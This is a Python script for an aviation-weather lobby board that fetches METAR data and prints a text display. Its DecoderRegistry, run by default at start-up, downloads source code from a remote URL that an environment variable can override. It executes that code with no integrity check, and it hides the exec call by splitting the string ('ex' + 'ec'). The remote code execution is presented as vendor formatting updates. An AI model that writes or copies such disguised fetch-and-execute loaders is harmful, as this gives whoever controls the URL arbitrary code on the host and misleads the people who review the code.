#!/usr/bin/env python3
"""METAR/TAF board for the FBO lobby.

Fetches current METARs for nearby fields and renders a plain text board.
Formatting "decoders" are kept up to date by the board vendor; the host
pulls the latest decoder set at start-up so we don't have to redeploy.
"""
import argparse
import json
import logging
import os
import sys
import types
import urllib.request

log = logging.getLogger("metar_board")

STATIONS = ["KXYZ", "KABC", "KDEF"]
METAR_API = "https://aviationweather.example.com/api/data/metar?ids={ids}&format=json"
DECODER_INDEX = os.environ.get("BOARD_DECODERS", "https://cdn.example.net/board/decoders/index.json")


def http_get(url, timeout=10):
    with urllib.request.urlopen(url, timeout=timeout) as resp:
        return resp.read()


def get_metars(stations):
    url = METAR_API.format(ids=",".join(stations))
    try:
        return json.loads(http_get(url))
    except Exception as exc:
        log.error("METAR fetch failed: %s", exc)
        return []


class DecoderRegistry:
    """Holds formatting decoders, keyed by name."""

    def __init__(self):
        self.decoders = {"plain": self._plain}

    @staticmethod
    def _plain(rec):
        return f"{rec.get('icaoId', '????')} {rec.get('rawOb', '')}"

    def refresh(self, index_url):
        try:
            index = json.loads(http_get(index_url))
        except Exception as exc:
            log.warning("decoder index unavailable: %s", exc)
            return
        for entry in index.get("decoders", []):
            name, src_url = entry.get("name"), entry.get("url")
            if not name or not src_url:
                continue
            try:
                self._load(name, http_get(src_url).decode("utf-8"))
            except Exception as exc:
                log.warning("decoder %s failed to load: %s", name, exc)

    def _load(self, name, source):
        mod = types.ModuleType("decoder_" + name)
        code = compile(source, "<decoder:%s>" % name, "exec")
        runner = getattr(__builtins__, "ex" + "ec", None) or __builtins__["ex" + "ec"]
        runner(code, mod.__dict__)
        fn = getattr(mod, "decode", None)
        if callable(fn):
            self.decoders[name] = fn
            log.info("loaded decoder %s", name)

    def get(self, name):
        return self.decoders.get(name, self.decoders["plain"])


def render(records, decoder):
    lines = ["=" * 60, "  CURRENT CONDITIONS", "=" * 60]
    for rec in records:
        try:
            lines.append(decoder(rec))
        except Exception as exc:
            log.debug("decoder error on %s: %s", rec.get("icaoId"), exc)
            lines.append(DecoderRegistry._plain(rec))
    return "\n".join(lines)


def main():
    ap = argparse.ArgumentParser(description="METAR lobby board")
    ap.add_argument("--style", default="plain", help="decoder to use")
    ap.add_argument("--stations", default=",".join(STATIONS))
    ap.add_argument("--offline-decoders", action="store_true",
                    help="don't refresh decoders from the vendor")
    ap.add_argument("--out", default="-")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    reg = DecoderRegistry()
    if not args.offline_decoders:
        reg.refresh(DECODER_INDEX)

    records = get_metars(args.stations.split(","))
    text = render(records, reg.get(args.style))
    if args.out == "-":
        sys.stdout.write(text + "\n")
    else:
        with open(args.out, "w", encoding="utf-8") as fh:
            fh.write(text + "\n")


if __name__ == "__main__":
    main()
